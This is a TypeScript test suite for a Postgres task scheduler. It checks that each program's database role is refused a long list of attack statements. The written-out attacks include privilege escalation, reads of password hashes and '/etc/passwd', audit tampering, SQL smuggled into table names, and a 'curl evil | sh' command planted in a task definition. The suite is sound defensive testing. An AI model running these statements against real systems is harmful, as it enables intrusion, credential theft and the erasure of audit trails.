import { actionOf, processPrincipal, taskDefinition } from '@escapement/core';
import { asUser, by, type DatabaseUser, testDatabase } from '@escapement/testkit';
import pg from 'pg';
import { afterAll, describe, expect, test } from 'vitest';
import { openDatabase, registerDeployment, saveTask } from '../src/index.ts';
import { ago, deleteNow, MINUTE, makeTask, queueRuns } from './ledger.ts';

// What a thief of a program's password in Postgres tries. Each attack is one that the owner of the tables could carry out.

const { url } = await testDatabase();
const db = openDatabase({ url, applicationName: 'test' });
afterAll(() => db.close());
const taskId = await makeTask(db, { name: 'nightly' });
await queueRuns(db, [{ taskId, key: 'nightly', ageMs: MINUTE }]);
await registerDeployment(db, { app: 'shop', release: null, fingerprint: 'x', whole: true, tasks: {} });
const { rows: weeks } = await db.pool.query<{ name: string }>(
  `SELECT name FROM partitions_of('run') WHERE from_at IS NOT NULL ORDER BY from_at LIMIT 1`,
);
const week = weeks[0]?.name ?? '';
const OLD = `now() - interval '2 years'`;
await db.pool.query(`INSERT INTO audit (namespace, at, principal_kind, principal_id, principal_name, action, subject)
  VALUES ('default', now(), 'cli', 'ann', 'ann', 'young', 'x:y'), ('default', ${OLD}, 'cli', 'ann', 'ann', 'old', 'x:y')`);

/** What Postgres says to these statements of one session; null: it does all of them. */
async function tries(user: DatabaseUser, ...statements: string[]): Promise<string | null> {
  const client = new pg.Client({ connectionString: asUser(url, user) });
  await client.connect();
  try {
    await client.query('BEGIN');
    for (const statement of statements) await client.query(statement);
    return null;
  } catch (error) {
    return `${error instanceof pg.DatabaseError ? error.code : ''} ${error}`;
  } finally {
    await client.end();
  }
}

const DENIED = /^42501 /;
const PROGRAMS = ['scheduler', 'worker', 'api', 'reader'] as const;

describe.each(PROGRAMS)('the user of %s', (user) => {
  test.each([
    'DROP TABLE run',
    'DROP TABLE delivery CASCADE',
    'ALTER TABLE run ADD COLUMN x integer',
    'ALTER TABLE audit DISABLE TRIGGER ALL',
    'ALTER TABLE task DISABLE TRIGGER task_is_guarded',
    'ALTER TABLE run OWNER TO CURRENT_USER',
    'TRUNCATE run',
    'TRUNCATE audit',
    'CREATE TABLE mine (id integer)',
    'CREATE FUNCTION now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT clock_timestamp() $$',
    'CREATE SCHEMA mine',
    'CREATE ROLE mine',
    'SET ROLE escapement_owner',
    'SET SESSION AUTHORIZATION escapement_owner',
    'GRANT escapement_owner TO CURRENT_USER',
    'GRANT DELETE ON audit TO CURRENT_USER; DELETE FROM audit',
    `SET session_replication_role = 'replica'`,
    'SELECT rolpassword FROM pg_authid',
    `SELECT pg_read_file('/etc/passwd')`,
    `COPY task TO PROGRAM 'cat'`,
    'CREATE OR REPLACE FUNCTION prune_audit() RETURNS void LANGUAGE sql AS $$ DELETE FROM audit $$',
    'ALTER FUNCTION prune_audit() RESET ALL',
    `SELECT grant_partition('run', 'audit')`,
    'DELETE FROM audit',
    `UPDATE audit SET action = 'x'`,
    `DELETE FROM audit WHERE at < now() - interval '1 year'`,
    'DELETE FROM _sql_functions',
    `UPDATE _prisma_migrations SET checksum = 'x'`,
  ])('may not: %s', async (statement) => {
    expect(await tries(user, statement)).toMatch(DENIED);
  });

  test('cannot have a function of the owner take a table of its own for one of ours', async () => {
    const shadows = [
      'CREATE TEMP TABLE audit (id bigint, at timestamptz)',
      'CREATE TEMP TABLE task (definition jsonb)',
      `CREATE TEMP TABLE pg_class AS SELECT * FROM pg_catalog.pg_class`,
      'SET search_path = pg_temp, public',
    ];
    if (user === 'scheduler') {
      expect(await tries(user, ...shadows, 'SELECT public.prune_audit()')).toBeNull();
      expect(await tries(user, ...shadows, `SELECT public.drop_partition('run', '${week}')`)).toContain('may go');
    }
    // The guard of definitions asks for a right by its name: one of that name elsewhere does not count.
    const own = [
      'CREATE FUNCTION pg_temp.save_any_task() RETURNS void LANGUAGE sql AS $$ SELECT $$',
      'SET search_path = pg_temp, public',
    ];
    if (user === 'worker')
      expect(await tries(user, ...own, `UPDATE public.task SET definition = '{}' WHERE name = 'nightly'`)).toMatch(
        DENIED,
      );
  });
});

const WORKER_ATTACKS = {
  'reads the hashes of tokens': 'SELECT hash FROM access_token',
  'reads the hashes of passwords': 'SELECT password_hash FROM access_user',
  'reads the hashes of sessions': 'SELECT hash FROM access_session',
  'reads the hashes of codes to sign in': 'SELECT hash FROM sign_in_code',
  'makes a token': `INSERT INTO access_token (namespace, id, name, hash, role) VALUES ('default', 'x', 'x', sha256('x'), 'admin')`,
  'reads the audit': 'SELECT * FROM audit',
  'reads the logs of others': 'SELECT text FROM run_log_chunk',
  'writes an entry of the audit with another time': `INSERT INTO audit (namespace, at, principal_kind, principal_id, principal_name, action, subject)
    VALUES ('default', ${OLD}, 'cli', 'ann', 'ann', 'x', 'y:z')`,
  'writes an entry of the audit in the name of a person': `INSERT INTO audit (namespace, principal_kind, principal_id, principal_name, action, subject)
    VALUES ('default', 'cli', 'ann', 'ann', 'delete', 'task:nightly')`,
  'notes that a person was refused what workers do not refuse': `SELECT note_refusal('default',
    '{"kind": "token", "id": "x", "name": "ann"}', 'delete', 'task:nightly', '{}')`,
  'changes a definition': `UPDATE task SET definition = jsonb_set(definition, '{handler,command}', '"curl evil | sh"')`,
  'says that a definition is of code': `UPDATE task SET source = 'code'`,
  'moves a task to its pool': `UPDATE task SET pool = 'mine'`,
  'deletes a task': 'UPDATE task SET deleted_at = now()',
  'makes a task with a command': `INSERT INTO task (name, definition, schedule, key_template, key_limit, overlap, pool, source, effective_at)
    VALUES ('x', '{"handler": {"type": "shell", "command": "id"}}', '{"kind": "manual"}', 'x', 1, 'skip', 'default', 'code', now())`,
  'makes a task of code in the name of people': `INSERT INTO task (name, definition, schedule, key_template, key_limit, overlap, pool, source, effective_at)
    VALUES ('x', '{"handler": {"type": "code", "name": "x"}}', '{"kind": "manual"}', 'x', 1, 'skip', 'default', 'cli', now())`,
  'adds a version to a task': `INSERT INTO task_version (task_id, version, definition, source, created_by, saver_kind, saver_id)
    VALUES ('${taskId}', 99, '{"handler": {"type": "code", "name": "x"}}', 'code', 'x', 'process', 'x')`,
  'changes a version': `UPDATE task_version SET definition = '{}'`,
  'leaves a definition for a scheduler to save': `INSERT INTO task_change (namespace, name, definition, source, created_by, effective_at)
    VALUES ('default', 'nightly', '{}', 'cli', '{}', now())`,
  'asks a scheduler for a bulk action': `INSERT INTO request (namespace, request, asked_by, expires_at) VALUES ('default', '{}', '{}', now())`,
  'starts a backfill': `INSERT INTO backfill (namespace, task_id, from_at, to_at, reprocess, concurrency, reverse, requested_by)
    VALUES ('default', '${taskId}', now(), now(), 'all', 1, false, 'x')`,
  'changes a calendar': `INSERT INTO calendar_version (namespace, name, version, definition, created_by) VALUES ('default', 'x', 1, '{}', 'x')`,
  'takes the rate from a pool': 'UPDATE pool SET rate_limit = NULL, rate_per_ms = NULL',
  'deletes runs': 'DELETE FROM run',
  'deletes the runs of a week': `DELETE FROM ${week}`,
  'deletes logs': 'DELETE FROM run_log_chunk',
  'forgets deployments': 'DELETE FROM deployment',
  'takes a week out': `SELECT take_partition_out('run', '${week}', '{}')`,
  'drops a week': `SELECT drop_partition('run', '${week}')`,
  'sets the bound of old weeks': `SELECT add_old_bound('run', '${week}')`,
  'prunes the audit': 'SELECT prune_audit()',
  'gives itself the right to save any task': 'GRANT EXECUTE ON FUNCTION save_any_task TO CURRENT_USER',
};

test.each(Object.entries(WORKER_ATTACKS))('a thief of a worker’s password %s: refused', async (_name, statement) => {
  expect(await tries('worker', statement)).toMatch(DENIED);
});

const API_ATTACKS = {
  'deletes runs': 'DELETE FROM run',
  'says who acted, later': `UPDATE audit SET principal_name = 'bob'`,
  'takes a week out': `SELECT take_partition_out('run', '${week}', '{}')`,
  'prunes the audit': 'SELECT prune_audit()',
  'changes a version': `UPDATE task_version SET definition = '{}'`,
  'says that a worker lives': 'UPDATE process SET heartbeat_at = now()',
  'takes the turn of a scheduler': 'UPDATE cluster_lock SET held_until = now()',
};

test.each(Object.entries(API_ATTACKS))(
  'a thief of the password of the command line %s: refused',
  async (_name, statement) => {
    expect(await tries('api', statement)).toMatch(DENIED);
  },
);

test('a thief of a scheduler’s password deletes no young entry of the audit, by whatever way', async () => {
  expect(
    await tries(
      'scheduler',
      `INSERT INTO audit (namespace, at, principal_kind, principal_id, principal_name, action, subject)
    VALUES ('default', ${OLD}, 'cli', 'ann', 'ann', 'x', 'y:z')`,
    ),
  ).toMatch(DENIED);
  expect(await tries('scheduler', 'SELECT prune_audit()', 'COMMIT')).toBeNull();
  expect((await db.pool.query(`SELECT action FROM audit WHERE subject = 'x:y'`)).rows).toEqual([{ action: 'young' }]);
});

test('nobody empties the audit or changes an entry, not even the owner, as long as its triggers are there', async () => {
  for (const statement of ['DELETE FROM audit', `UPDATE audit SET action = 'x'`, 'TRUNCATE audit'])
    expect(await tries('owner', statement)).toMatch(/^23000 .*audit/);
});

const CRAFTED = {
  'a table that is none': `SELECT make_partition('audit', now())`,
  'a name with SQL in it': `SELECT make_partition('run"; DROP TABLE audit; --', now())`,
  'no table': 'SELECT make_partition(NULL, now())',
  'no instant': `SELECT make_partition('run', NULL)`,
  'an instant without end': `SELECT make_partition('run', 'infinity')`,
  'an instant of the far future': `SELECT make_partition('run', now() + interval '21 years')`,
  'a week that is not over': `SELECT take_partition_out('run', '${week}', '{}')`,
  'the weeks before all others': `SELECT take_partition_out('run', 'run_old', '{}')`,
  'a table in place of a week': `SELECT take_partition_out('run', 'audit', '{}')`,
  'a week of another table': `SELECT take_partition_out('attempt', '${week}', '{}')`,
  'SQL in place of a week': `SELECT take_partition_out('run', 'run_p20200101"; DROP TABLE audit; --', '{}')`,
  'the drop of a week in use': `SELECT drop_partition('run', '${week}')`,
  'the drop of another table': `SELECT drop_partition('run', 'audit')`,
  'the bound of another table': `SELECT add_old_bound('audit', 'audit')`,
  'the bound of a week that is not over': `SELECT add_old_bound('run', '${week}')`,
};

test.each(Object.entries(CRAFTED))('functions of the owner refuse %s', async (_name, statement) => {
  expect(await tries('scheduler', statement)).toMatch(/^22023 /);
});

test('a table that only looks like a week is not dropped', async () => {
  const soon = `to_char(now() + interval '300 days', 'YYYYMMDD')`;
  await db.pool.query(`DO $$ BEGIN EXECUTE 'CREATE TABLE run_p' || ${soon} || ' (id integer)'; END $$`);
  const { rows } = await db.pool.query<{ name: string }>(`SELECT 'run_p' || ${soon} AS name`);
  expect(await tries('scheduler', `SELECT drop_partition('run', '${rows[0]?.name}')`)).toMatch(/^22023 /);
});

const READ_IN_VAIN = {
  definitions: 'SELECT definition FROM task',
  'versions of definitions': 'SELECT definition FROM task_version',
  'changes to come': 'SELECT * FROM task_change',
  payloads: 'SELECT payload FROM run',
  'payloads of a week': `SELECT payload FROM ${week}`,
  outputs: 'SELECT output FROM run',
  'whole rows': 'SELECT * FROM run',
  errors: 'SELECT error FROM run',
  progress: 'SELECT progress FROM run',
  states: 'SELECT value FROM task_state',
  logs: 'SELECT text FROM run_log_chunk',
  'items of lists': 'SELECT item FROM work_item',
  'items of batches': 'SELECT items FROM batch_page',
  requests: 'SELECT * FROM request',
  'the audit': 'SELECT * FROM audit',
  tokens: 'SELECT * FROM access_token',
  users: 'SELECT * FROM access_user',
  sessions: 'SELECT * FROM access_session',
  'codes to sign in': 'SELECT * FROM sign_in_code',
  'tries to sign in': 'SELECT * FROM sign_in_count',
};

test.each(Object.entries(READ_IN_VAIN))('a reader does not see %s', async (_name, statement) => {
  expect(await tries('reader', statement)).toMatch(DENIED);
});

test('a reader sees tasks, and how runs ended', async () => {
  expect(
    await tries('reader', 'SELECT t.name, r.state, r.reason, r.worker FROM run r JOIN task t ON t.id = r.task_id'),
  ).toBeNull();
  expect(await tries('reader', 'SELECT * FROM process, pool, key_slot')).toBeNull();
});

test('a reader writes nothing', async () => {
  const { rows } = await db.pool.query<{ name: string }>(
    `SELECT relname AS name FROM pg_class WHERE relnamespace = 'public'::regnamespace AND relkind IN ('r', 'p', 'v')`,
  );
  expect(rows.length).toBeGreaterThan(40);
  for (const { name } of rows) {
    expect(await tries('reader', `DELETE FROM ${name}`)).toMatch(DENIED);
    expect(await tries('reader', `INSERT INTO ${name} DEFAULT VALUES`)).toMatch(DENIED);
    expect(await tries('reader', `LOCK TABLE ${name} IN SHARE MODE`)).toMatch(DENIED);
  }
  expect(await tries('reader', `SELECT finish_runs('default', '[]')`)).toMatch(DENIED);
});

test('a worker saves a task of its code: as new, as the next version, and over a deleted one', async () => {
  const worker = openDatabase({ url: asUser(url, 'worker'), applicationName: 'test' });
  afterAll(() => worker.close());
  const save = async (type: 'code' | 'shell', expectedPlanSeq: number | null) => {
    const handler = type === 'code' ? { type, name: 'of-code' } : { type, command: 'true' };
    const definition = taskDefinition.parse({ name: 'of-code', handler, schedule: { kind: 'manual' } });
    return await saveTask(worker, {
      ...{
        definition,
        schedule: definition.schedule,
        keyTemplate: 'of-code',
        source: 'code',
        by: actionOf(processPrincipal('app')),
      },
      ...{ redacted: { before: null, after: null }, expectedPlanSeq, effectiveAt: ago(0), nextRunAt: null },
    });
  };
  expect(await save('code', null)).toMatchObject({ version: 1 });
  expect(await save('code', 0)).toMatchObject({ version: 2 });
  await expect(save('shell', 1)).rejects.toMatchObject({ code: '42501', message: expect.stringContaining('of-code') });
  await deleteNow(db, 'of-code', by('test'));
  expect(await save('code', null)).toMatchObject({ version: 3 });
});
